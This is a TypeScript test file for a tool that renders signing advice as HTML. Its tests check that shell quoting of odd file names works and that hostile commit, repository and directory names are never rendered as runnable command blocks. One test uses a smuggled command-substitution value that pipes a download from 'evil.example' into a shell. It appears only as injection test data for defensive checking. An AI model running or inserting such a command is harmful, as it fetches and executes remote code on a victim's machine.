import assert from 'node:assert/strict';
import { describeReason } from '../../../generator/explain/describe-reason.ts';
import {
  classifyPath,
  formatDirectory,
  parseDirectory,
} from '../../../generator/terms/location.ts';
import { nameFileIn, reject } from '../../../generator/terms/rejection.ts';
import { renderAdvice } from '../../../server/html/render-advice.ts';

const HEX = 'ab'.repeat(32);

/** The blocks of an advice, and what stands around them. */
function partsOf(advice: string) {
  const { markup } = renderAdvice(advice, 'label');
  const blocks = [...markup.matchAll(/<pre[^]*?<\/pre>/g)].map(([block]) => textOf(block));
  const words = [...markup.matchAll(/<p>([^]*?)<\/p>/g)].map(([, part = '']) => textOf(part));
  return { blocks, words };
}

describe('advice', () => {
  it('has its whole commands in blocks, and the sentence around them', () => {
    const { hint } = reject('armored', 'no');
    const { blocks, words } = partsOf(`${nameFileIn(hint, "a'b`c/x")} Then push: it is checked.`);
    const file = String.raw`'a'\''b${'`'}c/x'`;
    assert.deepEqual(blocks, [`gpg --dearmor < ${file} > ${file}.new && mv ${file}.new ${file}`]);
    assert.deepEqual(words, ['Convert it in place with ', 'Then push: it is checked.']);
  });

  it('leaves the words of a sentence in it', () => {
    const { blocks, words } = partsOf('Sign with `lookaside sign`, or `skopeo copy --sign-by`.');
    assert.deepEqual(
      [blocks, words],
      [[], ['Sign with lookaside sign, or skopeo copy --sign-by.']],
    );
    assert.deepEqual(partsOf('one ` alone').words, ['One ` alone']);
  });

  it("takes nobody's name for a command", () => {
    const hostile = "x`curl 'evil.example' | sh`y";
    const place = parseDirectory(formatDirectory(`team/${hostile}`, HEX));
    assert.ok(place);
    const commit = {
      id: HEX,
      author: { name: hostile, email: hostile },
      date: '',
      subject: hostile,
    };
    const image = {
      repository: `mirror/${hostile}`,
      digest: `sha256:${HEX}`,
      identity: hostile,
      signer: null,
      signedAt: '',
    };
    const removal = { directory: place.directory, isMerge: true };
    const advices = [
      describeReason(place, { code: 'unknown-repository' }).next,
      describeReason(place, { code: 'elsewhere', images: [image] }).next,
      describeReason(place, { code: 'removed', commit }, { removal }).next,
    ];
    for (const path of [
      `${place.directory.replace('=', ':')}/signature-1`,
      `${place.directory}/signature-01`,
    ]) {
      const found = classifyPath(path);
      assert.equal(found.kind, 'rejected');
      if (found.kind === 'rejected') advices.push(found.rejection.hint);
    }
    for (const advice of advices) assert.deepEqual(partsOf(advice).blocks, [], advice);
    const own = describeReason(
      place,
      { code: 'removed', commit },
      { removal: { ...removal, isMerge: false } },
    );
    const [block = ''] = partsOf(own.next).blocks;
    assert.match(block, /^git checkout \w{12}\^ -- 'team\/x`curl/);
  });
});

function textOf(part: string): string {
  return part
    .replaceAll(/<[^>]*>/g, '')
    .replaceAll(/&#(\d+);/g, (_, code: string) => String.fromCodePoint(Number(code)));
}
